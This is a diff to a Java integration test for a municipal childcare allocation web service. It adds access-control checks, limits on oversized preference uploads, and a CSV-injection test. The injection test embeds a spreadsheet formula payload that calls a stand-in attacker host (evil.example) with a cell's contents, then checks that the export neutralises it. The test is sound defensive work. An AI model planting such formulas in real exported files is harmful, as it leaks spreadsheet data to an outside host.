@@ -62,6 +62,9 @@ class AllocationRunHttpTest {
     assertThat(again.status()).isEqualTo(200);
     assertThat(again.json()).isEqualTo(run);
     assertThat(Http.as("supervisor-ku", port).get(RUNS + "/" + id).status()).isEqualTo(200);
+    // review F9: staff of the same municipality outside 保育課 (the inspector) do not see children's data
+    assertThat(Http.as("kensa-ku", port).get(RUNS + "/" + id).status()).isEqualTo(404);
+    assertThat(Http.as("kensa-ku", port).get(RUNS + "/" + id + "/result.csv").status()).isEqualTo(404);
     // another municipality's staff, and an outside system of the same municipality that did not make it: 404
     assertThat(Http.as("staff-shi", port).get(RUNS + "/" + id).status()).isEqualTo(404);
     assertThat(Http.as("api-client", port).get(RUNS + "/" + id).status()).isEqualTo(404);
@@ -128,6 +131,83 @@ class AllocationRunHttpTest {
 
     assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM tz_allocation_run", Integer.class)).isEqualTo(before);
     assertThat(staff.get(RUNS + "/" + UUID.randomUUID()).status()).isEqualTo(404);
+  }
+
+  /**
+   * Review F7 (output amplification): 99 preferences per child, or applicants × preferences beyond the bound, are
+   * refused before the engine runs, with the column or the count named; nothing is stored (domain
+   * childcare.md "Scale": a large ward has several thousand April applicants, a handful of preferences each).
+   */
+  @Test
+  void tooManyPreferencesOrPreferenceCellsAreRefusedBeforeAnythingIsComputed() {
+    Http staff = Http.as("staff-ku", port);
+    Integer before = jdbc.queryForObject("SELECT COUNT(*) FROM tz_allocation_run", Integer.class);
+    int k = 99;
+    StringBuilder facilities = new StringBuilder(
+        "保育所ID,保育所名,0歳募集人数,1歳募集人数,2歳募集人数,3歳募集人数,4歳募集人数,5歳募集人数\r\n");
+    for (int i = 1; i <= k; i++) {
+      facilities.append(i).append(",施設").append(i).append(",0,0,0,").append(i == k ? 1 : 0).append(",0,0\r\n");
+    }
+    StringBuilder wide = new StringBuilder("申請者番号,世帯番号,年齢,点数1");
+    for (int i = 1; i <= k; i++) {
+      wide.append(",希望保育園ID_").append(i);
+    }
+    wide.append("\r\n");
+    for (int a = 0; a < 50; a++) {
+      wide.append(100000 + a).append(',').append(500000 + a).append(",3,10");
+      for (int i = 1; i <= k; i++) {
+        wide.append(',').append(i);
+      }
+      wide.append("\r\n");
+    }
+    Http.Response refused = post(staff, RUNS, Map.of("applicants", wide.toString().getBytes(StandardCharsets.UTF_8),
+        "facilities", facilities.toString().getBytes(StandardCharsets.UTF_8)));
+    assertThat(refused.status()).as(refused.body()).isEqualTo(400);
+    assertThat(refused.json().get("errors").get(0).get("code").asText()).isEqualTo("TOO_MANY_PREFERENCES");
+    assertThat(refused.json().get("errors").get(0).get("column").asText()).isEqualTo("希望保育園ID_21");
+    assertThat(refused.json().get("messageJa").asText()).contains("第20希望まで");
+
+    // 20 preferences each (allowed), but 3,001 children: 60,020 preferences in all, beyond the 60,000 of one run
+    StringBuilder many = new StringBuilder("申請者番号,世帯番号,年齢,点数1");
+    for (int i = 1; i <= 20; i++) {
+      many.append(",希望保育園ID_").append(i);
+    }
+    many.append("\r\n");
+    for (int a = 0; a < 3001; a++) {
+      many.append(100000 + a).append(',').append(500000 + a).append(",3,10");
+      for (int i = 1; i <= 20; i++) {
+        many.append(',').append(i);
+      }
+      many.append("\r\n");
+    }
+    Http.Response tooLarge = post(staff, RUNS, Map.of("applicants", many.toString().getBytes(StandardCharsets.UTF_8),
+        "facilities", facilities.toString().getBytes(StandardCharsets.UTF_8)));
+    assertThat(tooLarge.status()).as(tooLarge.body()).isEqualTo(413);
+    assertThat(tooLarge.json().get("field").asText()).isEqualTo("applicants");
+    assertThat(tooLarge.json().get("detail").asText()).contains("60020 preferences");
+    assertThat(tooLarge.json().get("messageJa").asText()).contains("60000");
+    assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM tz_allocation_run", Integer.class)).isEqualTo(before);
+  }
+
+  /**
+   * Review F8 (CSV injection): a facility name that a spreadsheet would run as a formula comes back in result.csv
+   * with a leading {@code '} (OWASP), in both encodings; the JSON answer keeps the name as it was sent.
+   */
+  @Test
+  void aFormulaInANameIsWrittenInertToResultCsv() {
+    Http staff = Http.as("staff-ku", port);
+    String evil = "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")施設99";
+    String facilities = FACILITIES.replace("30,つばき保育園,", "30,\"" + evil.replace("\"", "\"\"") + "\",");
+    Http.Response created = post(staff, RUNS, Map.of("applicants", (APPLICANTS.replace("101,1001,", "＝1+1,1001,"))
+        .getBytes(StandardCharsets.UTF_8), "facilities", facilities.getBytes(StandardCharsets.UTF_8)));
+    assertThat(created.status()).as(created.body()).isEqualTo(201);
+    String id = created.json().get("id").asText();
+    String csv = new String(staff.get(RUNS + "/" + id + "/result.csv").bytes(), StandardCharsets.UTF_8);
+    assertThat(csv).contains(",30,\"'" + evil.replace("\"", "\"\"") + "\"\r\n")
+        .contains("\r\n'＝1+1,1001,").doesNotContain(",\"=HYPERLINK");
+    String sjis = new String(staff.get(RUNS + "/" + id + "/result.csv?charset=windows-31j").bytes(),
+        CsvText.WINDOWS_31J);
+    assertThat(sjis).contains("\"'=HYPERLINK");
   }
 
   @Test
